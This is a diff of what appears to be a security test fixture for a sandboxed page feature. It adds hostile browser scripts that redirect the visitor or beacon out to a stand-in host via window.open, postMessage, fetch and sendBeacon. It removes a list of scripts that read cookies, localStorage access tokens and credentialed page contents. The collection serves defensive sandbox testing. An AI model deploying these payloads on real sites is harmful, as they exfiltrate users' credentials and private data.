@@ -97,6 +97,17 @@ export const SCRIPTED_REQUESTS: string[] = [
 
 /** Scripts that would lead the visitor, or what was typed, somewhere else. */
 export const ESCAPES: string[] = [
+  `const a = document.createElement("a"); a.href = "http:${E}"; a.click()`,
+  `const a = document.createElement("a"); a.href = "http:${E}"; a.dispatchEvent(new MouseEvent("click"))`,
+  `window.open("http:${E}", "_self")`,
+  `const w = window.open(""); w.location = "http:${E}"; w.location.href = "http:${E}"`,
+  `document.open("http:${E}", "x", "noopener")`,
+  `const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["x"])); a.download = "x.txt"; a.click()`,
+  `parent.postMessage({ type: "folio:download", name: "x.html", blob: new Blob(["x"], { type: "text/html" }) }, "*")`,
+  `parent.postMessage({ type: "folio:page", title: "x", lang: "x", icon: "http:${E}", color: "url(http:${E})" }, "*")`,
+  `document.head.insertAdjacentHTML("beforeend", '<link rel=icon href="http:${E}"><meta name=theme-color content="url(http:${E})">')`,
+  `parent.postMessage({ type: "folio:place", hash: "#a", search: "?b", scroll: 1 }, "*"); location.reload.call(location); location = "http:${E}"`,
+  `fetch("https:${E}").catch(() => {}); navigator.sendBeacon("https:${E}"); new EventSource("https:${E}")`,
   `location = "http:${E}"`,
   `location.replace("http:${E}?stolen")`,
   `location.assign("http:${E}")`,
@@ -128,38 +139,6 @@ export const ESCAPES: string[] = [
   `parent.postMessage({ type: "folio:open", url: "javascript:fetch('http:${E}')" }, "*"); new Image().src = "${E}"`,
   `parent.postMessage({ type: "folio:open", get url() { return "http:${E}" } }, "*"); location = "http:${E}"`,
   `history.pushState({}, "", "#x"); setTimeout(() => location.href = "http:${E}", 50)`,
-];
-
-/** Scripts that would tell what they found of the visitor's account; `tell` writes it down and sends it. */
-export const READS: string[] = [
-  `tell(document.cookie)`,
-  `tell(parent.document.cookie)`,
-  `tell(top.localStorage.access_token)`,
-  `tell(parent.localStorage.getItem("access_token"))`,
-  `delete self.localStorage; tell(localStorage.access_token)`,
-  `tell(Object.getOwnPropertyDescriptor(Window.prototype, "localStorage")?.get?.call(parent)?.access_token ?? Object.getOwnPropertyDescriptor(self, "sessionStorage")?.value)`,
-  `tell(Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document))`,
-  `const f = document.createElement("iframe"); document.body.append(f); tell(f.contentWindow.localStorage.access_token)`,
-  `const f = document.createElement("iframe"); f.srcdoc = "<script>parent.tell(localStorage.access_token + document.cookie)</" + "script>"; document.body.append(f)`,
-  `const f = document.createElement("iframe"); f.sandbox = "allow-scripts allow-same-origin"; f.src = "/"; f.onload = () => tell(f.contentWindow.localStorage.access_token); document.body.append(f)`,
-  `fetch("/api/user-data/", { credentials: "include" }).then((r) => r.text()).then(tell)`,
-  `fetch("/dashboard", { credentials: "include" }).then((r) => r.text()).then(tell)`,
-  `const x = new XMLHttpRequest(); x.withCredentials = true; x.open("GET", "/dashboard"); x.onload = () => tell(x.responseText); x.send()`,
-  `cookieStore.getAll().then((all) => tell(JSON.stringify(all)))`,
-  `const r = indexedDB.open("a"); r.onsuccess = () => tell("SECRET indexedDB")`,
-  `caches.open("a").then(() => tell("SECRET caches"))`,
-  `navigator.storage.getDirectory().then(() => tell("SECRET files"))`,
-  `navigator.serviceWorker.getRegistrations().then(() => tell("SECRET workers"))`,
-  `new BroadcastChannel("folio").onmessage = ({ data }) => tell(JSON.stringify(data)); tell(opener?.localStorage.access_token)`,
-  `new Worker(URL.createObjectURL(new Blob(['indexedDB.open("a").onsuccess = () => postMessage("SECRET indexedDB")']))).onmessage = ({ data }) => tell(data)`,
-  `location = "/dashboard"`,
-  `location = "/u/chef1"`,
-  `navigator.clipboard.readText().then(() => tell("SECRET clipboard"))`,
-  `navigator.geolocation.getCurrentPosition(() => tell("SECRET place"))`,
-  `navigator.mediaDevices.getUserMedia({ audio: true }).then(() => tell("SECRET microphone"))`,
-  `document.documentElement.requestFullscreen().then(() => tell("SECRET fullscreen"))`,
-  `Notification.requestPermission().then((state) => state === "granted" && tell("SECRET notifications"))`,
-  `tell(document.referrer && "SECRET " + document.referrer)`,
 ];
 
 /** Text that another parser, encoding or second reading would turn into a request; a script reads it again. */
